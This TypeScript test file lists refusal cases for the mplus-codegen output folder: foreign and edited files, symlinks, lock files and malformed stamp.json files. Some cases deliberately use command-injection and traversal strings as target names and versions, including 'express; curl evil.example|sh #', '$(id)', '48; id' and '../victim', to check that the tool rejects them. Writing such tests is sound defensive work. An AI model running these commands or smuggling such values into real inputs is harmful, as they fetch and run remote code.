import { mkdirSync, renameSync, symlinkSync } from "node:fs";
import { hostname } from "node:os";
import { join } from "node:path";
import type { ProblemCode } from "../../generator/base/problem/catalogue.js";
import type { WantedOutput } from "../../generator/output/stamp.js";
import { put, sample, want, write, type Files, type Workbench } from "./workbench.js";

/** Something in the output folder that a run must not touch. */
export interface Refusal {
  readonly name: string;
  readonly given: (bench: Workbench) => unknown;
  /** The wanted output; default: the sample with every file changed. */
  readonly wanted?: WantedOutput;
  readonly want: {
    readonly code: ProblemCode;
    /** `OUT` is the output folder, `ROOT` its parent. */
    readonly message: string;
    readonly hint?: string;
  };
}

/** The sample after a spec change that affects every file. */
export const changed: Files = {
  types: { "index.ts": "export type A = 1;\n", "deep/a.ts": "const a = 2;\n" },
  validators: { "index.ts": "export const b = 3;\n" },
};

const generated = ({ out }: Workbench): Promise<unknown> => write(out, want(sample));

const foreign = (path: string) => ({
  code: "foreign-files" as const,
  message: `mplus-codegen did not write OUT/${path} and does not overwrite it; nothing was written.`,
  hint: "Move it, or choose another folder with --out (for a project, --dir).",
});

const edited = (path: string) => ({
  code: "edited-files" as const,
  message: `OUT/${path} was edited after generation; nothing was written.`,
  hint: "Run the same command with --force to discard the edits.",
});

const unwritable = (path: string, reason: string) => ({
  code: "output-unwritable" as const,
  message: `OUT/${path} cannot be written: ${reason}.`,
});

/** The existing and the requested settings, and the commands that add to the folder or generate it again. */
const otherRange = (
  [targets, held, settings]: readonly [string, string, string],
  [range, asked]: readonly [string, string],
  add: string,
  remake: string,
) => ({
  code: "other-range" as const,
  message: `This folder contains ${targets} for ${held} with safe responses and import extension js${settings}. All targets in a folder need the same settings, but this run would regenerate only some of them, for ${range} with safe responses and import extension js${asked}.`,
  hint: `To keep the folder's settings: mplus-codegen ${add} --out OUT. To regenerate everything: mplus-codegen ${remake} --out OUT`,
});

const unreadable = {
  code: "stamp-unreadable" as const,
  message: "OUT/stamp.json is not a valid stamp, so mplus-codegen cannot recognize its own files.",
  hint: "Restore it from version control, or delete it together with the generated files and run this again.",
};

export const formatLock = (pid: number, host = hostname()): string => `${pid} ${host}\n`;

const replaceByLink = (path: string, target: string) => async (bench: Workbench) => {
  await generated(bench);
  renameSync(join(bench.out, path), join(bench.root, target));
  symlinkSync(join(bench.root, target), join(bench.out, path));
};

const malformedStamp = (name: string, text: string): Refusal => ({
  name: `a stamp that is ${name}`,
  given: async (bench) => {
    await generated(bench);
    put(join(bench.out, "stamp.json"), text);
  },
  want: unreadable,
});

export const refusals: readonly Refusal[] = [
  {
    name: "a file of the user's in an empty folder",
    given: ({ out }) => put(join(out, "types/index.ts"), "mine\n"),
    want: foreign("types/index.ts"),
  },
  {
    name: "a file of the user's where a new one would be",
    given: async (bench) => {
      await generated(bench);
      put(join(bench.out, "types/new.ts"), "mine\n");
    },
    wanted: want({ ...sample, types: { ...sample["types"], "new.ts": "theirs\n" } }),
    want: foreign("types/new.ts"),
  },
  {
    name: "a generated file that was edited",
    given: async (bench) => {
      await generated(bench);
      put(join(bench.out, "types/deep/a.ts"), "const a = 1; // mine\n");
    },
    want: edited("types/deep/a.ts"),
  },
  {
    name: "a link in the place of a file",
    given: replaceByLink("types/index.ts", "victim.ts"),
    want: unwritable("types/index.ts", "a symbolic link is in the way"),
  },
  {
    name: "a link in the place of a folder",
    given: replaceByLink("types", "victims"),
    want: unwritable("types/index.ts", "types is a symbolic link, not a folder"),
  },
  {
    name: "a link in the place of the stamp",
    given: replaceByLink("stamp.json", "victim.json"),
    want: unwritable("stamp.json", "a symbolic link is in the way"),
  },
  {
    name: "a folder in the place of a file",
    given: ({ out }) => mkdirSync(join(out, "types/index.ts"), { recursive: true }),
    want: unwritable("types/index.ts", "a folder is in the way"),
  },
  {
    name: "a file in the place of a folder",
    given: ({ out }) => put(join(out, "types/deep"), "mine\n"),
    want: unwritable("types/deep/a.ts", "types/deep is a file, not a folder"),
  },
  {
    name: "a file in the place of the output folder",
    given: ({ out }) => put(out, "mine\n"),
    want: unwritable("stamp.json", "the output folder is not a folder"),
  },
  {
    name: "a folder that is somebody else's",
    given: ({ out }) => put(join(out, "notes.txt"), "mine\n"),
    want: {
      code: "folder-of-others",
      message:
        'OUT contains files that mplus-codegen did not write, such as "notes.txt"; nothing was written.',
      hint: "Choose a new or empty folder with --out (for a project, --dir). Generated files need their own folder.",
    },
  },
  {
    name: "a folder that another run is writing to",
    given: async (bench) => {
      await generated(bench);
      put(join(bench.out, ".mplus-codegen-lock"), formatLock(process.ppid));
    },
    want: {
      code: "folder-locked",
      message: `Another run of mplus-codegen is writing to OUT (process ${process.ppid} on "${hostname()}"), so this run wrote nothing.`,
      hint: "Run this again when that run has finished. If there is no such process, delete OUT/.mplus-codegen-lock first.",
    },
  },
  {
    name: "a prettier config that cannot be used",
    given: async (bench) => {
      await generated(bench);
      put(join(bench.root, ".prettierrc"), '{ "printWidth": "wide" }');
    },
    want: {
      code: "prettier-config",
      message:
        'The prettier config for OUT cannot be used; nothing was written: Invalid printWidth value. Expected an integer, but received "wide".',
      hint: "Fix the config; generated files are formatted with it.",
    },
  },
  malformedStamp("no JSON", "{ nonsense"),
  malformedStamp("another tool's", '{ "version": 3 }'),
  malformedStamp("a list of targets", '{ "targets": [] }'),
  malformedStamp("without files", '{ "targets": { "types": {} } }'),
  malformedStamp("a list of files", '{ "targets": { "types": { "files": ["../victim"] } } }'),
  malformedStamp("full of numbers", '{ "targets": { "types": { "files": { "types/index.ts": 1 } } } }'),
  ...["express; curl evil.example|sh #", "$(id)", "a b", "../types", "-x", "Types", "a\nb", ""].map((name) =>
    malformedStamp(
      `of a target ${JSON.stringify(name)}`,
      JSON.stringify({ targets: { [name]: { files: {} } } }),
    ),
  ),
  ...["48; id", "$(id)", "48 -o /", ""].map((minVersion) =>
    malformedStamp(
      `for releases from ${JSON.stringify(minVersion)} on`,
      JSON.stringify({ targets: { types: { files: {}, minVersion } } }),
    ),
  ),
  {
    name: "targets of another range that would stay",
    given: generated,
    wanted: want({ types: sample["types"] ?? {} }, { minVersion: "59.3", maxVersion: "60" }),
    want: otherRange(
      ["validators", "48..", ""],
      ["59.3..60", ""],
      "--target types --min-version 48",
      "--target types,validators --min-version 59.3 --max-version 60",
    ),
  },
  {
    name: "targets for another crypto, that would stay",
    given: generated,
    wanted: want({ validators: sample["validators"] ?? {} }, { crypto: "web" }),
    want: otherRange(
      ["types", "48..", ""],
      ["48..", ", for web crypto"],
      "--target validators --min-version 48",
      "--target validators,types --min-version 48 --crypto web",
    ),
  },
  {
    name: "a target in a language that would stay, and has none in this run",
    given: ({ out }) => write(out, want({ models: { "a.php": "" } }, { language: "php" })),
    wanted: want({ types: sample["types"] ?? {} }, { minVersion: "59.3" }),
    want: otherRange(
      ["models", "48..", ", in php"],
      ["59.3..", ""],
      "--target types --min-version 48",
      "--target types,models --min-version 59.3 --language php",
    ),
  },
];
